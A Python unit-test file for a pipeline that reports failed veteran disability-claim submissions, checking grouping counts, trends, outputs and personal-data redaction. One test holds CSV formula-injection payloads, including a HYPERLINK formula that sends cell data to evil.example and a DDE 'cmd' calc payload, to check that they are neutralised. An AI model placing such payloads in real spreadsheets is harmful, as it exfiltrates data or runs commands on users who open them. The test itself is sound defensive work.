"""Unit tests of include/form526/triage/aggregate.py, outputs.py and chart.py, over hand-built rows."""

from __future__ import annotations

import csv
import io
import json
import struct
from datetime import datetime, timedelta

import pytest

from include.form526.csv_safety import neutralise, safe_row
from include.form526.triage import aggregate as a
from include.form526.triage import outputs as o
from include.form526.triage.chart import chart_png
from include.form526.triage.explain import EstablishedClaim, FailedSubmission, JobRow
from include.form526.triage.identity import Identity
from include.form526.triage.window import TREND_DAYS, Window

T0 = datetime(2026, 11, 1, 12, 0, 0)
WINDOW = Window(datetime(2026, 11, 1), datetime(2026, 11, 2), datetime(2026, 11, 2), "params")
GATEWAY = ("Common::Exceptions::GatewayTimeout", "Did not receive a timely response")


def sub(sid=1, vet="acct:a1", failed_at=T0, **kw) -> FailedSubmission:
    return FailedSubmission(sid, vet, T0 - timedelta(days=30), failed_at, **kw)


def job(cls, status, error=(None, None), at=T0, sid=1, bg=None, vet="") -> JobRow:
    return JobRow(sid, cls, status, error[0], error[1], at, bg, vet)


def build(failed, job_rows=(), ancillary=(), done=None, threshold=None, established=(), identities=None):
    return a.build_report(WINDOW, failed, list(job_rows), list(ancillary), done, established=established,
                          identities=identities, alert_threshold=threshold, run_id="r1")


def rows_of(report):
    return list(csv.DictReader(io.StringIO(o.triage_csv(report).decode())))


def test_grouping_counts_submissions_veterans_and_jobs():
    in_window = [sub(i, vet=f"acct:{i % 2}", failed_at=datetime(2026, 11, 1, i)) for i in range(1, 5)]
    outside = [sub(9, vet="acct:9", failed_at=datetime(2026, 10, 20))]
    rows = [job("SubmitForm526AllClaim", "exhausted", GATEWAY, at=datetime(2026, 11, 1, i), sid=i) for i in range(1, 5)]
    rows.append(job("SubmitForm526AllClaim", "exhausted", GATEWAY, sid=9))
    rows.append(job("SubmitForm526", "retryable_error", GATEWAY, at=datetime(2026, 10, 1), sid=1))
    report = build(in_window + outside, rows)
    assert report.new_failures == 4 and report.new_failure_veterans == 2
    main = report.groups[0]
    assert (main.job_class, main.submissions, main.veterans, main.job_failures, main.statuses) == \
        ("SubmitForm526AllClaim", 4, 2, 4, {"exhausted": 4})
    assert main.examples == (4, 3, 2, 1)
    assert main.first_seen == datetime(2026, 11, 1, 1) and main.last_seen == datetime(2026, 11, 1, 4)
    assert 9 not in {s for g in report.groups for s in g.examples}
    assert report.new_by_path == {"primary": 4}
    assert report.backlog_failed == 5 and report.backlog == 5 and report.ledger_present is False


def test_veterans_are_counted_by_veteran_key_across_credentials():
    """Two credentials (user_uuids) of one account are one veteran_key: one veteran."""
    failed = [sub(1, vet="acct:A"), sub(2, vet="acct:A"), sub(3, vet="uuid:u3")]
    rows = [job("SubmitForm526AllClaim", "exhausted", GATEWAY, sid=i) for i in (1, 2, 3)]
    anc = [job("SubmitUploads", "exhausted", GATEWAY, sid=i, vet="acct:A") for i in (1, 2)]
    report = build(failed, rows, anc)
    assert report.new_failure_veterans == 2 and report.groups[0].veterans == 2
    assert (report.ancillary_submissions, report.ancillary_veterans) == (2, 1)


def test_backup_failure_only_in_bgjob_errors_is_grouped_under_its_real_key():
    bg = {"1761990000": {"caller_method": "try", "error_class": None, "error_message": None, "timestamp": "t"},
          "1761999000": {"caller_method": "error_hash_for_job_status", "error_class": "ArgumentError",
                         "error_message": "file number is invalid. It must be 8 or 9 digits", "timestamp": "t"}}
    failed = [sub(i, has_backup_id=True) for i in (1, 2)]
    rows = [job("BackupSubmission", "exhausted", sid=i, bg=bg) for i in (1, 2)]
    report = build(failed, rows)
    (group,) = [g for g in report.groups if g.path == "backup"]
    assert (group.error_class, group.error_key, group.submissions) == (
        "ArgumentError", "file number is invalid. It must be 8 or 9 digits", 2)


def test_malformed_bgjob_errors_are_counted_and_reported():
    failed = [sub(1), sub(2)]
    rows = [job("BackupSubmission", "exhausted", sid=1, bg=["not", "an", "object"]),
            job("BackupSubmission", "retryable_error", sid=2, bg={"1762000000": "junk"})]
    anc = [job("SubmitUploads", "exhausted", GATEWAY, sid=3, bg="{not json", vet="acct:3")]
    report = build(failed, rows, anc)
    assert (report.malformed.job_rows, report.malformed.submissions, report.malformed.examples) == (3, 3, (3, 2, 1))
    summary = json.loads(o.summary_json(report))
    assert summary["malformed_job_rows"] == {"job_rows": 3, "submissions": 3, "example_submission_ids": [3, 2, 1]}
    assert "malformed bgjob_errors: 3 failing job rows of 3 submissions" in o.log_table(report)
    assert any(r["error_key"] == "malformed_bgjob_errors" for r in rows_of(report))


def test_rejected_backup_is_reported_without_a_reason():
    report = build([sub(1, has_backup_id=True, backup_status=1)], [job("SubmitForm526AllClaim", "exhausted", GATEWAY)])
    backup = [r for r in rows_of(report) if r["path"] == "backup"]
    assert [(r["job_class"], r["error_class"], r["error_key"], r["statuses"]) for r in backup] == [
        ("", "", "backup_rejected:no_reason_recorded", "rejected=1")]


def test_established_claims_without_pdf_have_their_own_section():
    claims = [EstablishedClaim(20, "acct:A", datetime(2026, 10, 5, 9), "pdf_not_found"),
              EstablishedClaim(21, "acct:A", datetime(2026, 10, 5, 10), "pdf_not_found"),
              EstablishedClaim(22, "uuid:u", datetime(2026, 11, 1, 8), None)]
    report = build([], established=claims)
    est = report.established
    assert (est.submissions, est.veterans, est.in_window) == (3, 2, 1)
    assert est.by_day == (("2026-10-05", 2), ("2026-11-01", 1)) and est.examples == (22, 21, 20)
    assert report.new_failures == 0 and report.backlog_failed == 0 and not report.empty
    rows = [r for r in rows_of(report) if r["section"] == "established_no_pdf"]
    assert [(r["error_key"], r["submissions"], r["job_failures"], r["example_submission_ids"]) for r in rows] == [
        ("established_no_pdf:pdf_not_found", "2", "0", "21 20"), ("established_no_pdf:no_poll_row", "1", "0", "22")]
    section = json.loads(o.summary_json(report))["established_no_pdf"]
    assert section["by_day"] == [{"date": "2026-10-05", "submissions": 2}, {"date": "2026-11-01", "submissions": 1}]
    assert section["example_submission_ids"] == [22, 21, 20] and section["in_window"] == 1
    table = o.log_table(report)
    assert "ESTABLISHED WITHOUT PDF" in table and "2026-10-05 2, 2026-11-01 1" in table and "newest: 22 21 20" in table


def test_ancillary_failures_are_a_section_of_their_own():
    anc = [job("SubmitUploads", "exhausted", GATEWAY, at=datetime(2026, 11, 1, 5), sid=50, vet="acct:50"),
           job("SubmitUploads", "exhausted", GATEWAY, at=datetime(2026, 11, 1, 6), sid=51, vet="acct:50"),
           job("SubmitForm0781", "non_retryable_error", ("NoMethodError", "boom"), at=datetime(2026, 11, 1, 7), sid=51,
               vet="acct:50"),
           job("SubmitUploads", "exhausted", GATEWAY, at=datetime(2026, 10, 25), sid=52, vet="acct:52")]
    report = build([], ancillary=anc)
    assert report.new_failures == 0
    assert (report.ancillary_job_failures, report.ancillary_submissions, report.ancillary_veterans) == (3, 2, 1)
    assert {(g.section, g.job_class, g.submissions) for g in report.groups} == {
        ("ancillary", "SubmitUploads", 2), ("ancillary", "SubmitForm0781", 1)}
    assert sum(d.ancillary_failures for d in report.trend) == 4  # the trend sees 30 days, not only the window


def test_backlog_subtracts_only_failed_ids_delivered_or_duplicate():
    failed = [sub(i, failed_at=datetime(2026, 10, 10)) for i in range(1, 6)]
    done = {1: datetime(2026, 10, 30), 2: datetime(2026, 10, 31, 12), 77: datetime(2026, 10, 1)}
    report = build(failed, done=done)
    assert (report.backlog_failed, report.backlog_done, report.backlog, report.ledger_present) == (5, 2, 3, True)
    trend = {d.day.isoformat(): d.backlog for d in report.trend}
    assert trend["2026-10-29"] == 5 and trend["2026-10-30"] == 4 and trend["2026-10-31"] == 3


def test_trend_covers_thirty_days_ending_on_the_last_day_of_the_window():
    failed = [sub(1, failed_at=datetime(2026, 11, 1, 23, 59)), sub(2, failed_at=datetime(2026, 10, 3)),
              sub(3, failed_at=datetime(2026, 10, 2, 23))]
    report = build(failed)
    days = [d.day.isoformat() for d in report.trend]
    assert len(days) == TREND_DAYS and days[0] == "2026-10-03" and days[-1] == "2026-11-01"
    assert [d.new_failures for d in report.trend if d.new_failures] == [1, 1]
    assert report.trend[0].backlog == 2 and report.trend[-1].backlog == 3


def test_trend_cuts_the_last_day_at_the_window_end():
    window = Window(datetime(2026, 11, 1), datetime(2026, 11, 1, 12), datetime(2026, 11, 1, 12), "params")
    failed = [sub(1, failed_at=datetime(2026, 11, 1, 11)), sub(2, failed_at=datetime(2026, 11, 1, 12))]
    trend = a.build_trend(window, failed, [datetime(2026, 11, 1, 13)], {}, 3)
    assert [(t.new_failures, t.ancillary_failures, t.backlog) for t in trend] == [(0, 0, 0), (0, 0, 0), (1, 0, 1)]


def test_empty_report_says_so():
    report = build([])
    assert report.empty and report.message.startswith("Empty report")
    assert rows_of(report) == []
    summary = json.loads(o.summary_json(report))
    assert summary["empty"] is True and "Empty report" in summary["message"]
    assert summary["established_no_pdf"]["submissions"] == 0 and summary["malformed_job_rows"]["job_rows"] == 0
    assert "(none)" in o.log_table(report)


def test_threshold():
    failed = [sub(i) for i in range(1, 4)]
    assert build(failed, threshold=2).over_threshold
    assert not build(failed, threshold=3).over_threshold
    assert not build(failed, threshold=None).over_threshold


def test_csv_summary_and_log_table_shape():
    failed = [sub(1, vet="uuid:4f3c9d0e5b6a", failed_at=datetime(2026, 11, 1, 3))]
    report = build(failed, [job("SubmitForm526AllClaim", "exhausted", GATEWAY, sid=1, at=datetime(2026, 11, 1, 3))],
                   threshold=0)
    rows = rows_of(report)
    assert list(rows[0]) == list(o.CSV_COLUMNS)
    assert rows[0]["section"] == "new_failure" and rows[0]["statuses"] == "exhausted=1"
    assert rows[0]["first_seen"] == "2026-11-01T03:00:00Z" and rows[0]["example_submission_ids"] == "1"
    summary = json.loads(o.summary_json(report))
    assert set(summary) == {"report", "run_id", "date", "window", "empty", "message", "new_failures",
                            "established_no_pdf", "ancillary", "malformed_job_rows", "backlog", "trend",
                            "alert_threshold", "over_threshold", "keys"}
    assert summary["window"] == {"start": "2026-11-01T00:00:00Z", "end": "2026-11-02T00:00:00Z",
                                 "judged_as_of": "2026-11-02T00:00:00Z", "source": "params"}
    assert summary["date"] == "2026-11-02" and summary["over_threshold"] is True
    assert summary["new_failures"]["top"][0]["error_key"] == "Did not receive a timely response"
    table = o.log_table(report)
    assert "NEW FAILURES" in table and "SubmitForm526AllClaim" in table and "EXCEEDED" in table
    assert "4f3c9d0e5b6a" not in table  # veterans are counted, never named


def test_a_veterans_identity_in_error_text_never_reaches_any_output():
    """Hostile input: upstream text quoting the veteran's name, file number and address."""
    auth = {"va_eauth_firstName": "Marisol", "va_eauth_lastName": "Quintanilla", "va_eauth_pnid": "796123456",
            "va_eauth_birlsfilenumber": "31415926", "va_eauth_pid": "600777888", "va_eauth_birthdate": "1961-07-04"}
    form = {"form526": {"form526": {"veteran": {"currentMailingAddress": {
        "addressLine1": "4821 Juniper Hollow Rd", "city": "Tallahassee"}}}}}
    ident = Identity.from_source(json.dumps(auth), json.dumps(form))
    leak = ("Veteran name 'Marisol Quintanilla' does not match file number 31415926 (SSN 796-12-3456) "
            "at 4821 Juniper Hollow Rd, Tallahassee; born 07/04/1961")
    failed = [sub(1, has_backup_id=True)]
    rows = [job("SubmitForm526AllClaim", "exhausted", ("VeteranRecordWsClientException", leak)),
            job("BackupSubmission", "exhausted", bg={"1762000000": {"error_class": "ArgumentError",
                                                                    "error_message": leak, "timestamp": "t"}})]
    anc = [job("SubmitForm4142Job", "exhausted", ("X", leak), vet="acct:a1")]
    report = build(failed, rows, anc, identities={1: ident})
    outputs = o.triage_csv(report).decode() + o.summary_json(report).decode() + o.log_table(report)
    for value in ("Marisol", "Quintanilla", "31415926", "796", "3456", "4821", "Juniper", "Tallahassee", "1961"):
        assert value.lower() not in outputs.lower(), value
    keys = {g.error_key for g in report.groups}
    assert "Veteran name '[NAME] [NAME]' does not match file number [ID] (SSN [ID]) at [ADDRESS], [ADDRESS]; " \
           "born [DOB]" in keys


def test_formula_cells_are_neutralised():
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    failed = [sub(1), sub(2), sub(3)]
    rows = [job("SubmitForm526AllClaim", "exhausted", ("X", formula), sid=1),
            job("SubmitForm526AllClaim", "exhausted", ("Y", "@SUM(1+1)"), sid=2),
            job("SubmitForm526AllClaim", "exhausted", ("Z", "+cmd|' /C calc'!A0"), sid=3)]
    keys = {r["error_key"] for r in rows_of(build(failed, rows))}
    assert keys == {"'" + formula, "'@SUM(1+1)", "'+cmd|' /C calc'!A0"}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), (5, 5), (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
    assert safe_row([value]) == [expected]


def test_chart_is_a_small_png():
    png = chart_png(build([sub(1)]).trend)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    assert struct.unpack(">II", png[16:24]) == (800, 340)


def test_publish_writes_three_objects_under_the_date():
    class Store:
        def __init__(self):
            self.put_calls = []

        def put(self, bucket, key, data, *, content_type):
            self.put_calls.append((bucket, key, content_type, len(data)))

    store = Store()
    keys = o.publish(store, build([]), bucket="b", key_prefix="p/q")
    assert [c[1] for c in store.put_calls] == ["p/q/triage/2026-11-02/triage.csv", "p/q/triage/2026-11-02/trend.png",
                                               "p/q/triage/2026-11-02/summary.json"]
    assert keys["summary"] == "s3://b/p/q/triage/2026-11-02/summary.json"
